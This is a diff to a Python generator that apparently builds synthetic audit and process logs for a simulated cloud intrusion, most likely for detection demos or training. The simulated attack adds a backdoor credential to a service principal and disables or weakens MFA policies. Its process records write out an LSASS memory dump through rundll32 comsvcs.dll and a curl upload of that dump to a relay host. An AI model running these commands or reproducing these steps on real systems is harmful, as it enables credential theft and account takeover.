@@ -38,14 +38,17 @@ from tools.demo_campaign.tenant import (
     MAIL_CLIENT,
     PEOPLE,
     PHISH_ADDRESS,
+    PLANNER,
     REGISTRATION,
     RELAY,
     RELAY_ADDRESS,
     SHAREPOINT,
+    SHOP,
     SPRAY_ADDRESS,
     SQL,
     SUBSCRIPTION,
     VICTIM,
+    Server,
     guid,
 )
 
@@ -63,7 +66,8 @@ def add_attack(make: Maker) -> None:
     _phish(make)
     _mail(make)
     _directory(make)
-    _machine(make)
+    _machine(make, SQL, _after(MORNING, 98.0))
+    _machine(make, SHOP, _after(MORNING, 106.3))
     _disk(make)
     _destruction(make)
 
@@ -213,6 +217,17 @@ def _directory(make: Maker) -> None:
         ],
         agent=SCRIPT,
     )  # fmt: skip
+    first = [f"[KeyIdentifier={guid('key:planner')},KeyType=Password,KeyUsage=Verify,DisplayName=sync]"]
+    audit(
+        make, _after(MORNING, 40.2), "Add service principal credentials", "ApplicationManagement", "Update", relayed,
+        [
+            target(
+                "ServicePrincipal", guid(f"principal:{PLANNER.id}"), PLANNER.name,
+                modified("KeyDescription", [], first), modified("Included Updated Properties", None, "KeyDescription"),
+            )
+        ],
+        agent=SCRIPT,
+    )  # fmt: skip
     audit(
         make, _after(MORNING, 44.3), "Add member to role", "RoleManagement", "Assign", relayed,
         [
@@ -226,29 +241,29 @@ def _directory(make: Maker) -> None:
         ],
         agent=SCRIPT,
     )  # fmt: skip
-    policy = {
-        "id": guid("policy:Require MFA for administrators"), "displayName": "Require MFA for administrators",
-        "conditions": {"users": {"includeRoles": ["62e90394-69f5-4237-9190-012177145e10"], "excludeUsers": []}},
-        "grantControls": {"operator": "OR", "builtInControls": ["mfa"]},
-    }  # fmt: skip
-    audit(
-        make, _after(MORNING, 51.9), "Update conditional access policy", "Policy", "Update", relayed,
-        [
-            target(
-                "Policy", str(policy["id"]), str(policy["displayName"]),
-                modified("ConditionalAccessPolicy", policy | {"state": "enabled"}, policy | {"state": "disabled"}),
-            )
-        ],
-        service="Conditional Access", agent=SCRIPT,
-    )  # fmt: skip
+    policies = (
+        (51.9, "Require MFA for administrators", "disabled"),
+        (53.4, "Require MFA for all users", "enabledForReportingButNotEnforced"),
+    )
+    for minutes, name, state in policies:
+        policy = {
+            "id": guid(f"policy:{name}"), "displayName": name,
+            "conditions": {"users": {"includeUsers": ["All"], "excludeUsers": []}, "clientAppTypes": ["all"]},
+            "grantControls": {"operator": "OR", "builtInControls": ["mfa"]},
+        }  # fmt: skip
+        change = modified("ConditionalAccessPolicy", policy | {"state": "enabled"}, policy | {"state": state})
+        audit(
+            make, _after(MORNING, minutes), "Update conditional access policy", "Policy", "Update", relayed,
+            [target("Policy", guid(f"policy:{name}"), name, change)], service="Conditional Access", agent=SCRIPT,
+        )  # fmt: skip
 
 
-def _machine(make: Maker) -> None:
-    """A command on the finance database server, by the cloud's own means, that takes the credentials in its memory."""
+def _machine(make: Maker, server: Server, start: datetime) -> None:
+    """A command on a server, by the cloud's own means, that takes the credentials in its memory."""
     operation, correlation = "Microsoft.Compute/virtualMachines/runCommand/action", make.id()
-    for minutes, status in ((98.0, "Start"), (99.4, "Success")):
+    for minutes, status in ((0.0, "Start"), (1.4, "Success")):
         azure(
-            make, _after(MORNING, minutes), operation, SQL.resource, VICTIM, RELAY_ADDRESS, status=status,
+            make, _after(start, minutes), operation, server.resource, VICTIM, RELAY_ADDRESS, status=status,
             correlation=correlation,
         )  # fmt: skip
     extension = "C:\\Packages\\Plugins\\Microsoft.CPlat.Core.RunCommandWindows\\1.1.18\\bin\\RunCommandExtension.exe"
@@ -258,16 +273,18 @@ def _machine(make: Maker) -> None:
         '"C:\\Windows\\System32\\rundll32.exe" C:\\windows\\System32\\comsvcs.dll, MiniDump 712 '
         "C:\\Windows\\Temp\\af.log full"
     )
-    upload = f'"C:\\Windows\\System32\\curl.exe" -s -T C:\\Windows\\Temp\\af.log https://{RELAY_ADDRESS}/u/{SQL.name}'
+    upload = (
+        f'"C:\\Windows\\System32\\curl.exe" -s -T C:\\Windows\\Temp\\af.log https://{RELAY_ADDRESS}/u/{server.name}'
+    )
     steps = (
-        (98.6, shell, script, extension, "RunCommandExtension.exe enable"),
-        (98.7, "C:\\Windows\\System32\\whoami.exe", "\"C:\\Windows\\System32\\whoami.exe\" /all", shell, script),
-        (98.8, "C:\\Windows\\System32\\tasklist.exe", "tasklist /fi \"imagename eq lsass.exe\"", shell, script),
-        (98.9, "C:\\Windows\\System32\\rundll32.exe", dump, shell, script),
-        (99.2, "C:\\Windows\\System32\\curl.exe", upload, shell, script),
+        (0.6, shell, script, extension, "RunCommandExtension.exe enable"),
+        (0.7, "C:\\Windows\\System32\\whoami.exe", "\"C:\\Windows\\System32\\whoami.exe\" /all", shell, script),
+        (0.8, "C:\\Windows\\System32\\tasklist.exe", "tasklist /fi \"imagename eq lsass.exe\"", shell, script),
+        (0.9, "C:\\Windows\\System32\\rundll32.exe", dump, shell, script),
+        (1.2, "C:\\Windows\\System32\\curl.exe", upload, shell, script),
     )  # fmt: skip
     for minutes, path, command, parent, parent_command in steps:
-        process(make, Process(_after(MORNING, minutes), SQL, path, command, parent, parent_command))
+        process(make, Process(_after(start, minutes), server, path, command, parent, parent_command))
 
 
 def _disk(make: Maker) -> None:
